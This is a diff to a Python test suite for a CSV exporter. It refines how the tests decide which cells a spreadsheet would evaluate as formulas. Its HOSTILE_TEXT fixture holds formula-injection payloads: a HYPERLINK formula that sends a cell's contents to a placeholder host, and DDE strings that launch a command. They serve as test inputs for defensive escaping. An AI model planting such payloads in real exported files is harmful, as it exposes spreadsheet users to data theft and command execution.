@@ -11,6 +11,16 @@ from conftest import SHARED
 from test_review_support import synthetic_extraction
 
 LEADS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def _live(cell: str) -> bool:
+    """A cell a spreadsheet would evaluate: a formula lead, unless it is a plain number or a lone
+    dash (``-3``, ``+5``, ``-``: data, kept as printed; see ``extractor.render.csv_cell``)."""
+    import re
+
+    if re.fullmatch(r"[+-]?(\d{1,3}(,\d{3})+|\d+)(\.\d+)?|-{1,2}", cell):
+        return False
+    return cell.startswith(LEADS)
 HOSTILE_TEXT = ['=HYPERLINK("http://x.invalid/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|'/C calc'!A0",
                 "\t=1+1", "\r=1+1"]
 
@@ -29,7 +39,7 @@ def _check_csv(path, hostile: list[str]) -> None:
     cells = [c for r in body for c in r]
     assert cells, "nothing exported"
     for c in cells:
-        assert not c.startswith(LEADS), c  # a spreadsheet would evaluate it
+        assert not _live(c), c  # a spreadsheet would evaluate it
     for h in hostile:  # kept, visibly, as text
         assert any(c == "'" + h for c in cells), h
     for r in body:
@@ -104,7 +114,7 @@ def test_every_formula_lead_is_neutralised_and_numbers_stay_numbers(tmp_path):
     export(store, tmp_path / "l.csv", "csv", long=True)
     with (tmp_path / "l.csv").open(encoding="utf-8-sig", newline="") as fh:
         for row in csv.DictReader(fh):
-            assert not any(v.startswith(LEADS) for v in row.values())
+            assert not any(_live(v) for v in row.values())
             if row["key"] == "review.total" and row["report_id"] == "1":
                 assert row["value"] == "11"
     store.close()
